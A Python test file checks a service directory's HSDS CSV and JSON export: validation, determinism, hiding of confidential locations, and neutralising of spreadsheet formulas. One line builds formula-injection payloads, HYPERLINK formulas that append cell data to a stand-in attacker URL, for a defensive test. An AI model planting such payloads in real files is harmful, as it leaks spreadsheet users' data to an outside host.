"""The export: the HSDS tabular data package and nested JSON, from the CLI and the API."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from frictionless import Package, system
from sqlalchemy import inspect, select

from directory.csv_safe import FORMULA_STARTS
from directory.db import session_factory
from directory.interop.export import csv_tables, snapshot
from directory.interop.fields import FIELDS, WITHHELD
from directory.interop.schemas import HSDS_DATAPACKAGE, read_json
from directory.models import Location
from tests.api.conformance import DETAIL, assert_conforms

OFFICIAL_FILES = {r["path"] for r in read_json(HSDS_DATAPACKAGE)["resources"]}


@pytest.fixture(scope="module")
def csv_export(loaded_app, tmp_path_factory):
    folder = tmp_path_factory.mktemp("csv")
    result = loaded_app.test_cli_runner().invoke(args=["export", "--format", "csv", str(folder)])
    assert result.exit_code == 0, result.output
    return folder


@pytest.fixture(scope="module")
def json_export(loaded_app, tmp_path_factory):
    folder = tmp_path_factory.mktemp("json")
    result = loaded_app.test_cli_runner().invoke(args=["export", "--format", "json", str(folder)])
    assert result.exit_code == 0, result.output
    return folder


def _frictionless_errors(folder):
    # The official descriptor names every file by relative path: trust this folder only.
    with system.use_context(trusted=True):
        report = Package(str(folder / "datapackage.json")).validate()
    return [f"{task.name}: {error.message}" for task in report.tasks for error in task.errors] + [
        error.message for error in report.errors
    ]


def test_the_csv_export_is_the_official_package(csv_export):
    names = {p.name for p in csv_export.iterdir()}

    assert names == OFFICIAL_FILES | {"datapackage.json"}
    assert (csv_export / "datapackage.json").read_bytes() == HSDS_DATAPACKAGE.read_bytes()


def test_the_csv_export_passes_frictionless_validation(csv_export):
    assert _frictionless_errors(csv_export) == []


def test_frictionless_would_notice_a_broken_export(csv_export, tmp_path):
    for path in csv_export.iterdir():
        (tmp_path / path.name).write_bytes(path.read_bytes())
    services = (tmp_path / "services.csv").read_text().splitlines()
    services[1] = "not-a-uuid" + services[1][36:]
    (tmp_path / "services.csv").write_text("\n".join(services) + "\n")

    assert any("not-a-uuid" in error or "uuid" in error for error in _frictionless_errors(tmp_path))


def test_every_listed_service_is_exported(csv_export, loaded_client):
    total = loaded_client.get("/api/services").json["total_items"]

    rows = (csv_export / "services.csv").read_text().strip().splitlines()

    assert len(rows) - 1 == total


def test_the_json_export_holds_conforming_nested_services(json_export, loaded_client):
    services = json.loads((json_export / "services.json").read_text())
    taxonomies = json.loads((json_export / "taxonomies.json").read_text())

    assert len(services) == loaded_client.get("/api/services").json["total_items"]
    for service in services:
        assert_conforms(DETAIL["services"], service)
    for taxonomy in taxonomies:
        assert_conforms(DETAIL["taxonomies"], taxonomy)


def test_exporting_twice_gives_the_same_bytes(loaded_session):
    first = csv_tables(snapshot(loaded_session, include_examples=True))
    second = csv_tables(snapshot(loaded_session, include_examples=True))

    assert first == second


def test_confidential_locations_leave_no_trace_of_where_they_are(csv_export, loaded_session):

    hidden = {
        str(i) for i in loaded_session.scalars(select(Location.id).where(Location.is_confidential))
    }
    assert hidden
    for name in ("addresses.csv", "accessibility.csv"):
        assert not any(h in (csv_export / name).read_text() for h in hidden)
    for line in (csv_export / "locations.csv").read_text().splitlines()[1:]:
        cells = line.split(",")
        if cells[0] in hidden:
            assert cells[8] == "" and cells[9] == ""  # latitude, longitude


def test_the_api_serves_the_same_package(loaded_client, csv_export):
    response = loaded_client.get("/api/export/datapackage.zip")

    assert response.status_code == 200
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        for name in archive.namelist():
            assert archive.read(name) == (csv_export / name).read_bytes(), name


def test_the_api_serves_the_same_services_json(loaded_client, json_export):
    response = loaded_client.get("/api/export/services.json")

    assert response.json == json.loads((json_export / "services.json").read_text())


def test_examples_can_be_left_out(loaded_app, tmp_path):
    runner = loaded_app.test_cli_runner()
    result = runner.invoke(args=["export", "--format", "json", "--no-examples", str(tmp_path)])

    assert result.exit_code == 0
    services = json.loads((tmp_path / "services.json").read_text())
    assert services and not any(s.get("x_waymark_example") for s in services)


# One payload per character a spreadsheet starts a formula with.
PAYLOADS = [f'{start}HYPERLINK("https://evil.example/"&A1)' for start in FORMULA_STARTS]
PHONE = "+44 20 7946 0000"


def _is_text(row, column: str) -> bool:
    """A free-text column (not an id, date, number or enum), filled in or not."""
    mapped = inspect(type(row)).columns.get(column)
    return mapped is not None and mapped.type.python_type is str


def test_formulas_in_every_exported_text_field_are_neutralised(loaded_app):
    with session_factory(loaded_app)() as session:
        found = snapshot(session, include_examples=True)
        session.expunge_all()  # what follows changes only these copies, never the database
    planted: dict[str, dict[str, str]] = {}
    for location in found.rows["location"].values():
        location.is_confidential = False  # so every field of every row is published
    for entity, rows in found.rows.items():
        for row in rows.values():
            for n, column in enumerate(FIELDS[entity]):
                if not _is_text(row, column) or column in WITHHELD.get(entity, ()):
                    continue
                value = PHONE if (entity, column) == ("phone", "number") else PAYLOADS[n % 6]
                setattr(row, column, value)
                planted.setdefault(entity, {})[column] = value

    texts = csv_tables(found)
    tables = {
        r["name"]: list(csv.DictReader(io.StringIO(texts[r["path"]])))
        for r in read_json(HSDS_DATAPACKAGE)["resources"]
    }

    checked = 0
    for entity, columns in planted.items():
        for column, value in columns.items():
            written = {row[column] for row in tables[entity] if row[column]}
            expected = value if value == PHONE else "'" + value
            assert written == {expected}, (entity, column)
            checked += 1
    assert checked > 40 and {"name", "description", "address_1", "notes"} <= {
        column for columns in planted.values() for column in columns
    }


def test_phone_numbers_and_negative_numbers_are_exported_as_they_are(csv_export, loaded_session):
    locations = list(csv.DictReader(io.StringIO((csv_export / "locations.csv").read_text())))
    phones = list(csv.DictReader(io.StringIO((csv_export / "phones.csv").read_text())))

    assert any(row["longitude"].startswith("-") for row in locations)
    assert all(not row["longitude"].startswith("'") for row in locations)
    assert phones and all(row["number"][0].isdigit() for row in phones)
